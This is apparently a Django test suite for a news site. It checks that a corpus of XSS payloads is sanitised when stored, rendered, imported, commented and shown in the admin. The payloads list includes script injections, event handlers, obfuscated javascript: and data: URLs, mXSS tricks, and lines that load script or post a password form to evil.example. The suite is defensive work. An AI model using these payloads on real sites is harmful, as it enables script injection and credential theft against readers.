"""A corpus of XSS payloads through every way article text gets in: all come out harmless,
both as stored and as readers get the page."""

import html
import re
from datetime import date
from html.parser import HTMLParser
from urllib.parse import urlsplit

from django.test import TestCase
from django.urls import reverse

from articles.importer import ParsedArticle
from articles.models import Article
from articles.services import article_import
from comments.models import Comment
from tests.factories import make_article, make_section, make_user
from tests.test_hardening import inline_code

PAYLOADS = [
    # Script elements, plain, cased, split and nested.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example/x.js></script>",
    '<<script>alert("x");//<</script>',
    "<p>قبل<script>document.cookie</script>بعد</p>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">نص</p>',
    "<body onload=alert(1)>",
    '<a href="https://example.org/" onmouseover="alert(1)">رابط</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<p/onpointerenter=alert(1)>نص</p>",
    # javascript:, data: and vbscript: URLs, obfuscated by case, entities, whitespace and controls.
    '<a href="javascript:alert(1)">رابط</a>',
    '<a href="JaVaScRiPt:alert(1)">رابط</a>',
    '<a href="&#106;avascript:alert(1)">رابط</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">رابط</a>',
    '<a href="javascript&colon;alert(1)">رابط</a>',
    '<a href="java&#x09;script:alert(1)">رابط</a>',
    '<a href=" &#14; javascript:alert(1)">رابط</a>',
    '<a href="jav\tascript:alert(1)">رابط</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">رابط</a>',
    '<a href="vbscript:msgbox(1)">رابط</a>',
    '<a href="VBScript&#58;msgbox(1)">رابط</a>',
    "<a href='javascript:alert(1)' title='x'>رابط</a>",
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    # Style elements and attributes.
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">نص</p>',
    '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#xss)">نص</p>',
    '<div style="position:fixed;inset:0">غطاء</div>',
    # Frames, objects and embeds.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # Page-level tags.
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Forms.
    '<form action="https://evil.example/"><input name=password></form>',
    '<form><button formaction="javascript:alert(1)">زر</button></form>',
    # mXSS-ish: constructs that re-parse into something else.
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p title="<script>alert(1)</script>">نص</p>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><script>alert(1)</script></template>",
    "<a href=\"https://example.org/\"><a href='javascript:alert(1)'>متداخل</a></a>",
    '<blockquote><p><strong><em><a href="javascript:alert(1)">عميق</a></em></strong></p></blockquote>',
    "<h1 onclick=alert(1)>عنوان</h1><h2 dir=ltr>ع</h2>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
]

# What the body editor offers (articles.models.BODY_EXTENSIONS), plus nh3's harmless generic
# attributes; anything else in a stored body is a leak.
GENERIC = {"title", "lang"}
ALLOWED = {
    **dict.fromkeys(["p", "br", "strong", "em", "h2", "h3", "ul", "li", "blockquote"], GENERIC),
    "ol": GENERIC | {"start", "type", "data-type"},
    "a": GENERIC | {"href", "rel"},
}
SAFE_SCHEMES = {"", "http", "https", "mailto"}


class Markup(HTMLParser):
    """What a fragment would make a browser build: its tags with their (entity-decoded) attributes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(fragment: str) -> list[tuple[str, dict]]:
    parser = Markup()
    parser.feed(fragment)
    parser.close()
    return parser.elements


def problems(fragment: str) -> list[str]:
    found = []
    for tag, attrs in elements(fragment):
        if tag not in ALLOWED:
            found.append(f"<{tag}>")
            continue
        for name, value in attrs.items():
            if name not in ALLOWED[tag]:
                found.append(f"<{tag} {name}>")
            elif name == "href":
                # Browsers ignore tabs, newlines and leading controls inside a scheme.
                href = re.sub(r"[\x00-\x20]", "", value or "")
                if urlsplit(href).scheme.lower() not in SAFE_SCHEMES:
                    found.append(f"<a href={value!r}>")
    return found


def article_body(page: str) -> str:
    """The article's body as it sits in the page (the body allows no <div> of its own)."""
    opening = '<div class="article-body" dir="auto">'
    start = page.index(opening) + len(opening)
    return page[start : page.index("</div>", start)]


class CorpusSanityTests(TestCase):
    def test_the_checker_sees_every_payload_as_dangerous_or_inert_text(self):
        # Unsanitised, the corpus is what it claims to be: the checker flags nearly all of it
        # (the rest is dangerous only through a browser's re-parsing, or is already escaped).
        flagged = [payload for payload in PAYLOADS if problems(payload)]
        self.assertGreaterEqual(len(flagged), len(PAYLOADS) - 6)


class StoredBodyTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.section = make_section("سوريا")

    def test_every_payload_is_stored_harmless_and_idempotent(self):
        sanitize = Article._meta.get_field("body").sanitize
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                article = make_article(section=self.section, body=payload)
                stored = Article.objects.values_list("body", flat=True).get(pk=article.pk)
                self.assertEqual(problems(stored), [])
                self.assertEqual(sanitize(stored), stored)

    def test_the_editor_form_path_cleans_too(self):
        # The admin's form runs the model's full_clean(), which is where the editor's field sanitises.
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                article = Article(title="خبر", lead="مقدمة", body=payload, section=self.section)
                article.full_clean(exclude=["slug"])
                self.assertEqual(problems(article.body), [])

    def test_what_the_editor_offers_survives(self):
        body = (
            "<h2>عنوان</h2><p>نص <strong>عريض</strong> و<em>مائل</em><br>سطر</p>"
            "<ul><li>أ</li></ul><ol><li>ب</li></ol><blockquote><p>اقتباس</p></blockquote>"
            '<p><a href="https://example.org/تقرير">رابط</a> <a href="mailto:desk@example.org">بريد</a></p>'
        )
        stored = make_article(section=self.section, body=body).body
        for kept in [
            "<h2>عنوان</h2>",
            "<strong>عريض</strong>",
            "<em>مائل</em>",
            "<br>",
            "<li>أ</li>",
            "<blockquote>",
            'href="https://example.org/تقرير"',
            'href="mailto:desk@example.org"',
        ]:
            self.assertIn(kept, stored)

    def test_a_body_written_around_save_is_still_sanitised_on_the_page(self):
        article = make_article(section=self.section)
        Article.objects.filter(pk=article.pk).update(
            body='<p onclick="alert(1)">نص</p><script>alert(1)</script>'
        )
        page = self.client.get(article.get_absolute_url()).content.decode()
        self.assertEqual(article_body(page), "<p>نص</p>")


class RenderedPageTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        section = make_section("سوريا")
        cls.articles = [(payload, make_article(section=section, body=payload)) for payload in PAYLOADS]

    def test_every_payload_is_harmless_on_the_reader_page(self):
        for payload, article in self.articles:
            with self.subTest(payload=payload):
                page = self.client.get(article.get_absolute_url()).content.decode()
                self.assertEqual(problems(article_body(page)), [])
                self.assertEqual(inline_code(page), [])

    def test_escaped_markup_stays_text(self):
        article = dict(self.articles)["<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"]
        page = self.client.get(article.get_absolute_url()).content.decode()
        self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;", article_body(page))


class OtherWaysInTests(TestCase):
    def test_imported_paragraphs_are_text_never_markup(self):
        parsed = ParsedArticle(
            title="<script>alert(1)</script>",
            lead='<img src=x onerror="alert(1)">',
            caption="<svg onload=alert(1)>",
            pub_date=date(2018, 12, 1),
            paragraphs=PAYLOADS,
            section_name="من سوريا",
        )
        article, _ = article_import(parsed=parsed, key="xss")
        self.assertEqual(problems(article.body), [])
        # Each payload is kept, as the words a reader would see.
        self.assertEqual(article.body.count("<p>"), len(PAYLOADS))
        page = self.client.get(article.get_absolute_url()).content.decode()
        self.assertEqual(inline_code(page), [])
        self.assertIn(html.escape("<script>alert(1)</script>", quote=False), page)

    def test_comments_are_plain_text(self):
        article = make_article(section=make_section("سوريا"))
        for payload in PAYLOADS:
            Comment.objects.create(article=article, name=payload[:80], text=payload, status="approved")
        page = self.client.get(article.get_absolute_url()).content.decode()
        section = page[page.index('id="comments"') :]
        self.assertEqual(inline_code(page), [])
        tags = {tag for tag, _attrs in elements(section)}
        self.assertFalse(
            tags & {"script", "img", "svg", "iframe", "object", "embed", "style", "meta", "base"}
        )

    def test_admin_change_page_shows_a_stored_payload_as_the_editor_text_only(self):
        article = make_article(section=make_section("سوريا"), body="<p>نص</p>")
        Article.objects.filter(pk=article.pk).update(title='"><script>alert(1)</script>')
        self.client.force_login(make_user(is_superuser=True))
        page = self.client.get(reverse("admin:articles_article_change", args=[article.pk])).content.decode()
        self.assertNotIn("<script>alert(1)</script>", page)
